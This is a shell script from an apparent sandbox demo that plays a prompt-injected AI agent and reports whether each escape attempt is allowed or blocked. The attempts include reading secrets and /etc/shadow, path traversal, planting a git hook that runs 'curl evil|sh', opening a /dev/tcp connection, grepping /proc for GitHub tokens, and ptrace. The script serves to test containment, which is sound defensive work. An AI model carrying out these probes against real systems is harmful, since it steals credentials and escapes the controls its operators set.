#!/bin/sh
# Plays a hijacked agent: tries what a prompt-injected agent would try, and reports each outcome.
# It runs INSIDE the sandbox; paths come from the demo script.
try() { # label, command...
  label=$1; shift
  if out=$("$@" 2>&1); then printf '  ALLOWED  %-44s %s\n' "$label" "$(printf '%s' "$out" | head -c 60 | tr '\n' ' ')"
  else printf '  blocked  %-44s %s\n' "$label" "$(printf '%s' "$out" | tail -n 1 | sed 's/^[^:]*: //' | head -c 90)"; fi
}
echo "inside the sandbox as $(id -un) (uid $(id -u)), cwd $(pwd)"
try "read a granted note"                     cat "$DEMO_NOTES/todo.txt"
try "write in the workspace"                  sh -c 'echo draft > summary.txt && echo wrote summary.txt'
try "read a secret outside the grants"        cat "$DEMO_SECRET"
try "read it through ../"                     cat "../private/api-key.txt"
try "read the owner's home ($DEMO_CALLER_HOME)"  ls "$DEMO_CALLER_HOME"
try "read /etc/shadow"                        cat /etc/shadow
try "write outside the workspace"             sh -c "echo x > $DEMO_NOTES/evil.txt"
try "plant a git hook"                        sh -c 'mkdir -p .git/hooks && echo "curl evil|sh" > .git/hooks/pre-commit'
try "reach the network (TCP to 127.0.0.1:$DEMO_PORT)" bash -c "exec 3<>/dev/tcp/127.0.0.1/$DEMO_PORT"
try "signal a host process (pid $DEMO_HOST_PID)"  kill -0 "$DEMO_HOST_PID"
try "find the parent's token in env or /proc"  sh -c 'grep -a -l "gh[p]_" /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null || env | grep "gh[p]_" || { echo "no trace of it in env or any /proc/*/environ, cmdline"; exit 1; }'
try "nested user namespace (unshare -U)"      unshare -U true
try "ptrace another process"                  sh -c 'strace -p 1 2>&1 || exit 1'
echo "passed in on purpose: DEMO_GREETING=$DEMO_GREETING"
